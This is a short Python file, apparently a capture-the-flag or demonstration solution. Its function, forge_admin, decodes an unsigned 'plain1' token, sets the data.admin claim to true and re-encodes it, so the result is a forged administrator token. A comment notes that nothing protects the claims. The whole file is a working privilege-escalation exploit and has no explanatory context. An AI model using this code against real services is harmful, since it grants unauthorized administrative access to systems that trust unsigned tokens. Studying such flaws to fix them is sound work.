import base64
import json


def forge_admin(token: str) -> str:
    """Return the plain1 token with data.admin set to true."""
    fmt, payload = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    claims["data"]["admin"] = True  # nothing protects the claims: just write them
    edited = base64.urlsafe_b64encode(json.dumps(claims).encode()).rstrip(b"=").decode()
    return f"{fmt}.{edited}"
